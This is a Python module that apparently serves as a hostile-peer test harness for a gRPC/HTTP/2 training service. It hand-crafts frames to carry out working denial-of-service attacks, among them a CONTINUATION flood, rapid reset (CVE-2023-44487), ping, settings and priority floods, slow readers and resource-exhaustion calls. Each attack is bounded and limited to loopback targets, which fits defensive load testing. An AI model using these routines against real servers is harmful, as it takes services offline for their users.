"""Attacks of a hostile peer on a server of HTTP/2, each bounded in count, bytes and time.

Frames are made by hand, because client libraries refuse to send most of them. An attack is a
function of an address and a Scale; it returns an Outcome. Targets are on this machine only.
"""

import contextlib
import dataclasses
import ipaddress
import resource
import select
import socket
import ssl
import struct
import time

import hpack

from stubs import model, service, tensor, training

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
    0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVICE = "/backprop.v1.TrainingService/"
BACKUP = "/backprop.v1.AdminService/CreateBackup"


@dataclasses.dataclass
class Scale:
    """How large an attack is: `amount` of 1.0 is the size of docs/hostile_peers.md."""
    amount: float = 1.0
    seconds: float = 30.0  # at most, for sending
    hold_s: float = 5.0    # how long the connections then stay open
    model: str = "models/m"
    token: str = ""        # sent by every call, if given

    def __post_init__(self):
        self.deadline = time.monotonic() + self.seconds

    def count(self, most):
        return max(1, int(most * self.amount))

    def over(self):
        return time.monotonic() > self.deadline


@dataclasses.dataclass
class Outcome:
    sent_bytes: int = 0
    connections: int = 0
    closed: int = 0        # connections that the server ended, or refused
    note: str = ""


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">IBBI", len(payload), kind, flags, stream)[1:] + payload


def setting(identifier, value):
    return struct.pack(">HI", identifier, value)


class Link:
    """A connection. It reads only when it is told to, and answers only what it is told to."""

    def __init__(self, address, tls=None, settings=b"", preface=True):
        self.sent = 0
        self.window = 65535       # of the connection, for DATA that the attacker sends
        self.stream_window = {}
        self.initial_window = 65535
        self.settings = {}        # of the server
        self.reset = set()        # streams
        self.goaway = False
        self.reason = ""          # of the GOAWAY
        self.closed = False
        self.buffer = b""
        self.encoder = hpack.Encoder()
        if address.startswith("unix:"):
            self.socket = socket.socket(socket.AF_UNIX)
            self.socket.settimeout(10)
            self.socket.connect(address[5:])
        else:
            host, port = address.rsplit(":", 1)
            host = host.strip("[]")
            if host != "localhost" and not ipaddress.ip_address(host).is_loopback:
                raise ValueError(f"{address} is not on this machine")
            self.socket = socket.create_connection((host, int(port)), timeout=10)
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket)
        self.socket.settimeout(0.5)
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """False if the server has closed the connection, or does not read for half a second."""
        view = memoryview(data)
        while view and not self.closed:
            try:
                written = self.socket.send(view[:1 << 16])
            except (TimeoutError, ssl.SSLWantWriteError):
                return False
            except OSError:
                self.closed = True
                return False
            self.sent += written
            view = view[written:]
        return not self.closed

    def headers(self, method, scale, extra=(), raw=False):
        """The block of headers of a call."""
        fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"),
                  ("content-type", "application/grpc"), ("te", "trailers"), *extra]
        if scale.token:
            fields.append(("authorization", f"Bearer {scale.token}"))
        return self.encoder.encode(fields)

    def call(self, stream, method, scale, flags=END_HEADERS):
        self.stream_window[stream] = self.initial_window
        return self.send(frame(HEADERS, flags, stream, self.headers(method, scale)))

    def drain(self, wait_s=0.0, answer=True):
        """Reads what has arrived; answers SETTINGS and PING if `answer`."""
        while not self.closed and select.select([self.socket], [], [], wait_s)[0]:
            wait_s = 0.0
            try:
                data = self.socket.recv(1 << 18)
            except (TimeoutError, ssl.SSLWantReadError):
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buffer += data
            self._frames(answer)

    def _frames(self, answer):
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7fffffff
            payload, self.buffer = self.buffer[9:9 + size], self.buffer[9 + size:]
            if kind == SETTINGS and not flags & ACK:
                for at in range(0, size, 6):
                    key, value = struct.unpack_from(">HI", payload, at)
                    self.settings[key] = value
                    if key == 4:
                        self.initial_window = value
                if answer:
                    self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK and answer:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                if stream == 0:
                    self.window += more
                else:
                    self.stream_window[stream] = self.stream_window.get(stream, 0) + more
            elif kind == GOAWAY:
                self.goaway = True
                self.reason = payload[8:].decode(errors="replace")
            elif kind == RST_STREAM:
                self.stream_window.pop(stream, None)
                self.reset.add(stream)

    def data(self, stream, payload, scale, end=False):
        """Sends a message's bytes within flow control. False if the server ended the stream."""
        view = memoryview(payload)
        while view and not scale.over():
            self.drain(0)
            if self.closed or stream not in self.stream_window:
                return False
            room = min(self.window, self.stream_window[stream], 16384, len(view))
            if room <= 0:
                self.drain(0.05)
                continue
            last = end and room == len(view)
            if not self.send(frame(DATA, END_STREAM if last else 0, stream, bytes(view[:room]))):
                self.drain(0)
                if self.closed:
                    return False
                return False
            self.window -= room
            self.stream_window[stream] -= room
            view = view[room:]
        return not view

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


class Attacker:
    """The connections of one attack."""

    def __init__(self, address, scale, tls=None):
        self.address, self.scale, self.tls = address, scale, tls
        self.links, self.refused = [], 0

    def connect(self, **options):
        try:
            self.links.append(Link(self.address, self.tls, **options))
            return self.links[-1]
        except OSError:
            self.refused += 1
            return None

    def repeat(self, link, count, make, batch=200, drain=True, answer=False):
        """Sends make(i) for all i < count, in batches."""
        sent = 0
        while sent < count and not self.scale.over():
            size = min(batch, count - sent)
            if not link.send(b"".join(make(sent + i) for i in range(size))) and link.closed:
                break
            sent += size
            if drain:
                link.drain(0, answer=answer)
        return sent

    def hold(self, answer=True):
        """Keeps the connections open and answers pings, so that the server sees a live peer."""
        end = time.monotonic() + self.scale.hold_s
        while time.monotonic() < end and not all(link.closed for link in self.links):
            for link in self.links:
                if answer:
                    link.drain(0)
            time.sleep(0.05)

    def finish(self, note=""):
        for link in self.links:
            link.drain(0, answer=False)
        closed = sum(link.closed or link.goaway for link in self.links) + self.refused
        outcome = Outcome(sum(link.sent for link in self.links), len(self.links) + self.refused,
                          closed, note)
        for link in self.links:
            link.close()
        return outcome


def attack(function):
    """Makes an attack of a function of an Attacker that returns a note."""
    def run(address, scale, tls=None):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
        attacker = Attacker(address, scale, tls)
        note = function(attacker)
        return attacker.finish(note or "")
    run.__name__ = function.__name__
    run.__doc__ = function.__doc__
    ATTACKS[function.__name__] = run
    return run


ATTACKS = {}


@attack
def continuation(attacker):
    """CONTINUATION frames without END_HEADERS: 38 MB."""
    link = attacker.connect()
    if link is None:
        return
    link.call(1, SERVICE + "Step", attacker.scale, flags=0)

    # Each byte is a field of the static table, accept-charset.
    piece = frame(CONTINUATION, 0, 1, b"\x8f" * 16384)
    sent = attacker.repeat(link, attacker.scale.count(2320), lambda i: piece, batch=8)
    attacker.hold(answer=False)
    return f"{sent} frames"


@attack
def streams(attacker):
    """100,000 streams opened on one connection that acknowledges no settings."""
    link = attacker.connect()
    if link is None:
        return
    block = link.headers(SERVICE + "Step", attacker.scale)
    link.send(frame(HEADERS, END_HEADERS, 1, block))
    block = link.headers(SERVICE + "Step", attacker.scale)  # the table of the server has the fields now
    sent = attacker.repeat(link, attacker.scale.count(100_000),
                           lambda i: frame(HEADERS, END_HEADERS, 2 * i + 3, block))
    attacker.hold()
    return f"{sent} streams"


@attack
def rapid_reset(attacker):
    """200,000 streams opened and reset at once (CVE-2023-44487)."""
    link = attacker.connect()
    if link is None:
        return
    link.send(frame(HEADERS, END_HEADERS, 1, link.headers(SERVICE + "GetModel", attacker.scale)))
    block = link.headers(SERVICE + "GetModel", attacker.scale)
    cancel = struct.pack(">I", 8)
    sent = attacker.repeat(
        link, attacker.scale.count(200_000),
        lambda i: frame(HEADERS, END_HEADERS, 2 * i + 3, block) + frame(RST_STREAM, 0, 2 * i + 3, cancel))
    attacker.hold()
    return f"{sent} resets"


def message_of(request):
    """A request with the five bytes that gRPC puts before it."""
    content = request.SerializeToString()
    return struct.pack(">BI", 0, len(content)) + content


def predict_request(scale, size):
    """A Predict of a model with two inputs, of about `size` bytes."""
    inputs = tensor.Tensor(shape=[size // 8, 2], data_type=tensor.DATA_TYPE_FLOAT32,
                           raw=bytes(size // 8 * 8))
    return message_of(service.PredictRequest(model=scale.model, inputs=inputs))


def messages(attacker, part, end):
    size = 62 << 20
    message = predict_request(attacker.scale, size)
    message = message[:int(len(message) * part)]
    links = [attacker.connect() for _ in range(attacker.scale.count(50))]
    links = [link for link in links if link is not None]
    at = {link: 0 for link in links}
    for link in links:
        link.call(1, SERVICE + "Predict", attacker.scale)
    # In turns, so that all are being received at the same time.
    while at and not attacker.scale.over():
        for link in list(at):
            chunk = message[at[link]:at[link] + (1 << 20)]
            last = at[link] + len(chunk) == len(message)
            turn = Scale(seconds=1.0)
            if link.data(1, chunk, turn, end and last):
                at[link] += len(chunk)
                if last:
                    del at[link]
            elif link.closed or 1 not in link.stream_window:
                del at[link]
    attacker.hold()
    return f"{len(links)} messages"


@attack
def half_messages(attacker):
    """50 half-sent messages of 62 MiB, held."""
    return messages(attacker, 0.5, False)


@attack
def whole_messages(attacker):
    """50 messages of 62 MiB at the same time."""
    return messages(attacker, 1.0, True)


@attack
def half_headers(attacker):
    """500 connections with half a HEADERS frame, held."""
    for _ in range(attacker.scale.count(500)):
        link = attacker.connect()
        if link is not None:
            link.send(frame(HEADERS, END_HEADERS, 1, bytes(100))[:20])
    attacker.hold(answer=False)


@attack
def silence(attacker):
    """500 connections that send SETTINGS and then only answer pings."""
    for _ in range(attacker.scale.count(500)):
        attacker.connect()
    attacker.hold()


@attack
def no_preface(attacker):
    """500 connections that send nothing."""
    for _ in range(attacker.scale.count(500)):
        attacker.connect(preface=False)
    attacker.hold(answer=False)


def step_message(scale):
    batch = tensor.Batch(inputs=tensor.Tensor(shape=[1, 2], values=[0.5, 0.5]),
                         labels=tensor.Tensor(values=[1]))
    return message_of(service.StepStreamRequest(step=service.StepRequest(model=scale.model, batch=batch)))


@attack
def deaf_step_stream(attacker):
    """50 StepStreams that send steps, read no response, and then vanish without closing."""
    message = step_message(attacker.scale)
    for _ in range(attacker.scale.count(50)):
        link = attacker.connect(settings=setting(4, 0))  # INITIAL_WINDOW_SIZE 0: nothing may be written
        if link is None:
            continue
        link.drain(0.1)
        link.call(1, SERVICE + "StepStream", attacker.scale)
        link.data(1, message * 200, Scale(seconds=0.3))
    attacker.hold(answer=False)


@attack
def endless_runs(attacker):
    """1,024 detached runs that never end."""
    spec = model.ModelSpec(input_size=1, layers=[model.Layer(units=2)])
    data = tensor.Batch(inputs=tensor.Tensor(shape=[1, 1], values=[1]), labels=tensor.Tensor(values=[1]))
    config = training.TrainingConfig(iterations=10**12, report_every=10**12)
    for first in range(0, attacker.scale.count(1024), 20):
        link = attacker.connect()
        if link is None or attacker.scale.over():
            break
        stream = 1
        for kind in ("CreateModel", "Train"):
            for i in range(first, first + 20):
                request = service.CreateModelRequest(model_id=f"endless{i}", spec=spec) if kind == "CreateModel" \
                    else service.TrainRequest(model=f"models/endless{i}", data=data, config=config, detach=True)
                link.call(stream, SERVICE + kind, attacker.scale)
                link.data(stream, message_of(request), Scale(seconds=1), end=True)
                stream += 2
            link.drain(0.3)
        link.drain(0.3)
        link.close()
    attacker.links.clear()


@attack
def unread_backups(attacker):
    """200 backups of which no byte is read."""
    for _ in range(attacker.scale.count(4)):
        link = attacker.connect()
        if link is None:
            continue
        link.drain(0.1)
        for stream in range(1, 101, 2):
            link.call(stream, BACKUP, attacker.scale)
            link.send(frame(DATA, END_STREAM, stream, bytes(5)))
    attacker.hold()


@attack
def slow_reader(attacker):
    """50 connections that ask for large responses, allow them, and read a byte a second."""
    asked = message_of(service.GetParametersRequest(model=attacker.scale.model))
    for _ in range(attacker.scale.count(50)):
        link = attacker.connect(settings=setting(4, (1 << 31) - 1))
        if link is None:
            continue
        link.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
        for stream in range(1, 41, 2):
            link.call(stream, SERVICE + "GetParameters", attacker.scale)
            link.send(frame(DATA, END_STREAM, stream, asked))
    attacker.hold(answer=False)


@attack
def ping_flood(attacker):
    """500,000 PING frames whose answers are not read."""
    link = attacker.connect()
    if link is None:
        return
    ping = frame(PING, 0, 0, bytes(8))
    sent = attacker.repeat(link, attacker.scale.count(500_000), lambda i: ping, drain=False)
    attacker.hold()
    return f"{sent} pings"


@attack
def settings_flood(attacker):
    """500,000 SETTINGS frames whose acknowledgements are not read."""
    link = attacker.connect()
    if link is None:
        return
    one = frame(SETTINGS, 0, 0, setting(4, 65535))
    sent = attacker.repeat(link, attacker.scale.count(500_000), lambda i: one, drain=False)
    attacker.hold()
    return f"{sent} frames"


@attack
def window_flood(attacker):
    """500,000 WINDOW_UPDATE frames of one byte, then one that overflows the window."""
    link = attacker.connect()
    if link is None:
        return
    one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    sent = attacker.repeat(link, attacker.scale.count(500_000), lambda i: one)
    link.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1)) * 2)
    attacker.hold()
    return f"{sent} frames"


def varint(value):
    """The rest of an integer of HPACK that does not fit into its prefix."""
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


@attack
def huge_metadata(attacker):
    """200 calls with 1 MB of metadata each."""
    link = attacker.connect()
    if link is None:
        return
    block = link.headers(SERVICE + "GetModel", attacker.scale)
    for i in range(attacker.scale.count(200)):
        big = block + b"\0\x05x-big\x7f" + varint(1_000_000 - 127) + b"a" * 1_000_000
        pieces = [big[at:at + 16384] for at in range(0, len(big), 16384)]
        stream = 2 * i + 1
        frames = [frame(HEADERS, END_STREAM, stream, pieces[0])]
        frames += [frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, stream, piece)
                   for piece in pieces[1:]]
        if not link.send(b"".join(frames)) and link.closed or attacker.scale.over():
            break
        link.drain(0)
    attacker.hold()


@attack
def priority_flood(attacker):
    """500,000 PRIORITY frames for streams that do not exist."""
    link = attacker.connect()
    if link is None:
        return
    sent = attacker.repeat(link, attacker.scale.count(500_000),
                           lambda i: frame(PRIORITY, 0, 2 * (i % 1_000_000) + 1, struct.pack(">IB", 0, 15)))
    attacker.hold()
    return f"{sent} frames"
